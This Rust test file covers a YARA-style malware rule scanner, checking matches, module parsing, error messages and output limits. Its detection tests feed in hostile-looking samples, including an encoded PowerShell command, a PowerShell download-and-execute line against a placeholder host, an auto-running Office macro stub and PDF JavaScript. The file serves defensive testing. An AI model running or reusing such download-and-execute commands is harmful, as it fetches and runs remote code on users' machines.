use std::cell::RefCell;

use belljar_sdk::hostile;
use serde_json::Value;
use serde_json::json;

use super::*;

const ELF: &[u8] = include_bytes!("../../executable/samples/hard.elf");
const MACH_O: &[u8] = include_bytes!("../../executable/samples/hello.macho");
const PE: &[u8] = include_bytes!("../../executable/samples/inject.exe");
const PDF: &[u8] = include_bytes!("../../pdf/samples/pages.pdf");

fn args(rules: &str) -> Args {
    Args { rules: rules.to_owned(), matches_max: 20, match_bytes_max: 64 }
}

fn of(rules: &str, bytes: &[u8]) -> Value {
    let report = scan(Sample::of_bytes(bytes), args(rules)).unwrap_or_else(|failure| panic!("{}", failure.message()));
    serde_json::to_value(report).unwrap()
}

/// Checks which rules match.
fn check(rules: &str, bytes: &[u8], expected: &[&str]) {
    let found = of(rules, bytes);
    let names: Vec<_> = found["matched"].as_array().unwrap().iter().map(|it| it["rule"].as_str().unwrap()).collect();
    assert_eq!(names, expected, "{found:#}");
}

fn refused(rules: &str, expected: &str) {
    let failure = scan(Sample::of_bytes(*b"x"), args(rules)).unwrap_err();
    assert_eq!(failure.message(), format!("the rules cannot be used: {expected}"), "{rules}");
}

#[test]
fn strings_are_told_with_their_places() {
    let rules = r#"rule all { strings:
        $text = "abc" $hex = { 00 ?? 02 } $regex = /x[0-9]+y/ $wide = "hi" wide $xor = "secret" xor(1-255) $private = "abc" private
        condition: all of them }"#;
    let secret: Vec<u8> = b"secret".iter().map(|it| it ^ 0x20).collect();
    let bytes = [b"abc \0\x01\x02 x123y h\0i\0 abc".as_slice(), &secret].concat();
    let found = of(rules, &bytes);
    let strings = &found["matched"][0]["strings"];
    let one = |offset: u64, length: u64| json!({ "offset": offset, "length_bytes": length });
    let with = |mut found: Value, name: &str, value: Value| {
        found[name] = value;
        found
    };
    assert_eq!(
        *strings,
        json!([
            { "name": "$text", "count": 2, "matches": [with(one(0, 3), "text", json!("abc")), with(one(19, 3), "text", json!("abc"))] },
            { "name": "$hex", "count": 1, "matches": [with(one(4, 3), "hex", json!("000102"))] },
            { "name": "$regex", "count": 1, "matches": [with(one(8, 5), "text", json!("x123y"))] },
            { "name": "$wide", "count": 1, "matches": [with(one(14, 4), "hex", json!("68006900"))] },
            { "name": "$xor", "count": 1, "matches": [with(with(one(22, 6), "text", json!("SECRET")), "xor_key", json!(32))] },
        ])
    );
    assert_eq!(found["is_cut"], json!(false));
}

#[test]
fn conditions_see_the_whole_file() {
    check("rule a { condition: filesize == 5 and uint8(4) == 0x65 }", b"abcde", &["a"]);
    check("rule a { strings: $b = \"b\" condition: $b at 1 and #b == 2 and @b[2] == 3 }", b"abcbe", &["a"]);
    check("private rule a { condition: true } rule b { condition: a } rule c { condition: not a }", b"", &["b"]);
    check("global rule a { condition: filesize > 3 } rule b { condition: true }", b"abc", &[]);
    check(
        "import \"hash\" rule a { condition: hash.md5(0, filesize) == \"900150983cd24fb0d6963f7d28e17f72\" }",
        b"abc",
        &["a"],
    );
    check("import \"math\" rule a { condition: math.entropy(0, filesize) < 0.1 }", b"aaaa", &["a"]);
    check("import \"time\" rule a { condition: time.now() >= 0 }", b"", &["a"]);
}

#[test]
fn programs_are_read_by_their_modules() {
    let rules = r#"import "pe" import "elf" import "macho"
        rule a_pe { condition: pe.is_pe and pe.number_of_sections > 0 and pe.imports("kernel32.dll") > 0 }
        rule an_elf { condition: elf.type == elf.ET_DYN and elf.machine == elf.EM_X86_64 }
        rule a_macho { condition: macho.filetype == macho.MH_EXECUTE }"#;
    check(rules, PE, &["a_pe"]);
    check(rules, ELF, &["an_elf"]);
    check(rules, MACH_O, &["a_macho"]);
}

#[test]
fn rules_of_our_own_find_what_they_say() {
    let own = rules();
    check(&own, PE, &["windows_program"]);
    check(&own, ELF, &["linux_program"]);
    check(&own, b"nothing in particular", &[]);
    check(&own, b"powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0A", &["script_with_encoded_command"]);
    check(&own, b"IEX (New-Object Net.WebClient).DownloadString('http://a.example')", &["script_from_the_network"]);
    check(&own, b"Sub AutoOpen()\nSet a = CreateObject(\"x\")\nEnd Sub", &["office_macro_that_starts_itself"]);
    check(&own, b"%PDF-1.7\n<</S/JavaScript/JS(app.alert(1))>>", &["pdf_that_acts"]);
    check(&own, b"-----BEGIN RSA PRIVATE KEY-----\n", &["private_key"]);
    let hidden: Vec<u8> = b"This program cannot be run in DOS mode".iter().map(|it| it ^ 0x55).collect();
    check(&own, &[vec![0; 2000], hidden].concat(), &["program_inside"]);
}

#[test]
fn wrong_rules_are_told_with_line_and_column() {
    refused("rule a {\n  condition: $x\n}", "line 2, column 14: unknown variable $x");
    refused("rule a { condition: tru", "line 1, column 24: syntax error");
    refused("rule ä", "line 1, column 6: syntax error");
    refused("import \"cuckoo\" rule a { condition: true }", "line 1, column 1: unknown import cuckoo");
    refused("include \"/etc/passwd\"", "line 1, column 1: includes are not allowed");
    refused("rule a { strings: $a = /(/ condition: $a }", "line 1, column 25: syntax error");
    refused(
        "rule a { condition: true } rule a { condition: true }",
        "line 1, column 33: rule `a` is already declared in this namespace",
    );
    refused(
        &format!("rule a {{ condition: {}true{} }}", "(".repeat(5000), ")".repeat(5000)),
        "line 1, column 46: too many imbricated expressions",
    );
}

#[test]
fn what_is_odd_about_rules_is_a_warning() {
    let found = of("rule a { strings: $a = \"a\" condition: $a or \"text\" }", b"a");
    assert_eq!(found["warnings"], json!(["line 1, column 45: implicit cast from a bytes value to a boolean"]));
}

#[test]
fn lists_are_bounded_and_say_so() {
    let rule = "rule a { strings: $a = \"a\" $b = \"b\" condition: any of them }";
    let found = scan(Sample::of_bytes(vec![b'a'; 30_000]), Args { matches_max: 3, match_bytes_max: 0, ..args(rule) });
    let found = found.unwrap();
    assert!(found.is_cut);
    let string = serde_json::to_value(&found.matched).unwrap()[0]["strings"][0].clone();
    assert_eq!((&string["count"], &string["matches"].as_array().unwrap().len()), (&json!(10_000), &3));
    let many: String = (0..40).map(|it| rule.replace("rule a", &format!("rule r{it}"))).collect();
    let found = scan(Sample::of_bytes(vec![b'a'; 2000]), Args { matches_max: 10_000, ..args(&many) }).unwrap();
    assert!(found.is_cut && found.matched.len() == 40);
    assert!(serde_json::to_string(&found).unwrap().len() < 1 << 20);
}

#[test]
fn damaged_programs_have_a_result_or_a_reason() {
    let modules = ["pe", "elf", "macho", "dotnet", "dex"].map(|it| format!("import \"{it}\"\n")).concat();
    let condition =
        "pe.imphash() == \"\" or pe.number_of_signatures > 0 or elf.telfhash() == \"\" or pe.entry_point > 1";
    let scanner = compiled::scanner(&format!("{modules}{} rule x {{ condition: {condition} }}", rules()));
    let scanner = RefCell::new(scanner.unwrap());
    for bytes in [PE, ELF, &MACH_O[..4000], &PDF[..1000]] {
        hostile::survives(bytes, |mut sample| {
            let bytes = beginning(&mut sample)?;
            scanner.borrow_mut().scan(&bytes, 64, &mut Room::new(20))
        });
    }
}

#[test]
fn damaged_rules_have_a_result_or_a_reason() {
    hostile::survives(&rules().as_bytes()[..900], |mut sample| {
        let mut rules = String::new();
        sample.read_to_string(&mut rules)?;
        scan(Sample::of_bytes(&PE[..64]), args(&rules))
    });
}
